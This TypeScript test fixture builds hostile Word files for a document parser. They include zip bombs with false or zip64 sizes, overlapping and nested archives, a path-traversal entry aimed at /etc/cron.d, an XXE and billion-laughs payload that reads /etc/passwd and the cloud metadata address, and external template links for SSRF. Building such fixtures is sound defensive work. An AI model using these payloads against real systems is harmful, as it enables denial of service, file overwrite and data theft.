import { deflateRawSync } from 'node:zlib'
import { deflateRepeated } from './deflated-repeats.ts'

interface Member {
  name: string
  packed: Buffer
  /** The size that the directory claims. */
  bytes: number
  /** Writes the claimed size into a zip64 field. */
  zip64?: boolean
}

/** A file with its name, which must be refused or read with a warning. */
export interface Bomb {
  name: string
  body: Buffer
}

const GIGABYTE = 1_000_000_000
/** Just below what Foyer unpacks of one file. */
const CLAIMED = 19_999_999
const UNKNOWN_SIZE = 0xffff_ffff
const DEFLATED = 8

/** Writes a ZIP archive whose directory says what it is told. Members with the same bytes overlap. */
function zipOf(members: readonly Member[]): Buffer {
  const parts: Buffer[] = []
  const offsets = new Map<Buffer, number>()
  let length = 0
  const directory = members.map(({ name, packed, bytes, zip64 }) => {
    const known = offsets.get(packed)
    const offset = known ?? length
    if (known === undefined) {
      const local = localHeader(name, packed.length, zip64 ? UNKNOWN_SIZE : bytes)
      parts.push(local, packed)
      offsets.set(packed, offset)
      length += local.length + packed.length
    }
    return centralHeader({ name, packed, bytes, zip64: zip64 ?? false }, offset)
  })
  const central = Buffer.concat(directory)
  const end = Buffer.alloc(22)
  end.writeUInt32LE(0x06054b50, 0)
  end.writeUInt16LE(members.length, 8)
  end.writeUInt16LE(members.length, 10)
  end.writeUInt32LE(central.length, 12)
  end.writeUInt32LE(length, 16)
  return Buffer.concat([...parts, central, end])
}

function localHeader(name: string, packedBytes: number, bytes: number): Buffer {
  const header = Buffer.alloc(30 + name.length)
  header.writeUInt32LE(0x04034b50, 0)
  header.writeUInt16LE(20, 4)
  header.writeUInt16LE(DEFLATED, 8)
  header.writeUInt32LE(packedBytes, 18)
  header.writeUInt32LE(bytes, 22)
  header.writeUInt16LE(name.length, 26)
  header.write(name, 30, 'latin1')
  return header
}

function centralHeader({ name, packed, bytes, zip64 }: Required<Member>, offset: number): Buffer {
  const extra = zip64 ? Buffer.alloc(12) : Buffer.alloc(0)
  if (zip64) {
    extra.writeUInt16LE(1, 0)
    extra.writeUInt16LE(8, 2)
    extra.writeBigUInt64LE(BigInt(bytes), 4)
  }
  const header = Buffer.alloc(46)
  header.writeUInt32LE(0x02014b50, 0)
  header.writeUInt16LE(20, 6)
  header.writeUInt16LE(DEFLATED, 10)
  header.writeUInt32LE(packed.length, 20)
  header.writeUInt32LE(zip64 ? UNKNOWN_SIZE : bytes, 24)
  header.writeUInt16LE(name.length, 28)
  header.writeUInt16LE(extra.length, 30)
  header.writeUInt32LE(offset, 42)
  return Buffer.concat([header, Buffer.from(name, 'latin1'), extra])
}

const DOCUMENT = 'word/document.xml'
const OPEN = '<w:document xmlns:w="w"><w:body>'
const CLOSE = '</w:body></w:document>'
const paragraph = (text: string): string => `<w:p><w:r><w:t>${text}</w:t></w:r></w:p>`
const LINE = paragraph('The weekly box costs 24.50 EUR.')

const member = (name: string, text: string): Member => ({
  name,
  packed: deflateRawSync(text),
  bytes: Buffer.byteLength(text),
})
const wordOf = (xml: string, ...others: Member[]): Buffer => zipOf([member(DOCUMENT, xml), ...others])
const vast = (text: string, bytes = GIGABYTE): Buffer => deflateRepeated({ before: OPEN, text, bytes, after: CLOSE })

function nestedZip(): Buffer {
  let body = zipOf([{ name: DOCUMENT, packed: vast(LINE), bytes: GIGABYTE }])
  for (let depth = 0; depth < 20; depth++) {
    const packed = deflateRawSync(body)
    body = zipOf([{ name: DOCUMENT, packed, bytes: body.length }])
  }
  return body
}

const LAUGHS = Array.from({ length: 20 }, (_, at) => `<!ENTITY l${at + 1} "${`&l${at};`.repeat(10)}">`).join('')

/** Returns Word files that unpack to far more than they hold, lie about it, or name what is not theirs. */
export function wordBombs(privateOrigin: string): Bomb[] {
  const [box, ratio] = [vast(LINE, 19_000_000), vast(LINE)]
  const secrets = `<!DOCTYPE d [<!ENTITY l0 "ha">${LAUGHS}<!ENTITY f SYSTEM "file:///etc/passwd"><!ENTITY m SYSTEM "${privateOrigin}/entity"><!ENTITY % x SYSTEM "http://169.254.169.254/latest/"> %x;]>`
  const link = `<Relationships><Relationship Id="r1" Type="attachedTemplate" TargetMode="External" Target="${privateOrigin}/template"/><Relationship Id="r2" Type="image" TargetMode="External" Target="${privateOrigin}/image"/></Relationships>`
  return [
    { name: 'ratio.docx', body: zipOf([{ name: DOCUMENT, packed: ratio, bytes: GIGABYTE }]) },
    { name: 'lying.docx', body: zipOf([{ name: DOCUMENT, packed: ratio, bytes: 1_000 }]) },
    { name: 'lying-zip64.docx', body: zipOf([{ name: DOCUMENT, packed: ratio, bytes: 1_000, zip64: true }]) },
    { name: 'vast-zip64.docx', body: zipOf([{ name: DOCUMENT, packed: ratio, bytes: 2 ** 50, zip64: true }]) },
    {
      name: 'overlapping.docx',
      body: zipOf(Array.from({ length: 60_000 }, () => ({ name: DOCUMENT, packed: box, bytes: CLAIMED }))),
    },
    {
      name: 'parts.docx',
      body: zipOf(
        [DOCUMENT, ...['header', 'footer'].flatMap((name) => [1, 2, 3].map((at) => `word/${name}${at}.xml`))].map(
          (name) => ({ name, packed: box, bytes: CLAIMED }),
        ),
      ),
    },
    { name: 'nested.docx', body: nestedZip() },
    {
      name: 'names.docx',
      body: wordOf(
        `${OPEN}${LINE}${CLOSE}`,
        member('../../etc/cron.d/word/document.xml', 'x'),
        member('/word/header1.xml', 'x'),
      ),
    },
    { name: 'deep.docx', body: zipOf([{ name: DOCUMENT, packed: vast('<w:p>', 19_000_000), bytes: CLAIMED }]) },
    { name: 'entities.docx', body: wordOf(`${secrets}${OPEN}${LINE}${paragraph('&l20;&f;&m;')}${CLOSE}`) },
    { name: 'relations.docx', body: wordOf(`${OPEN}${LINE}${CLOSE}`, member('word/_rels/document.xml.rels', link)) },
  ]
}
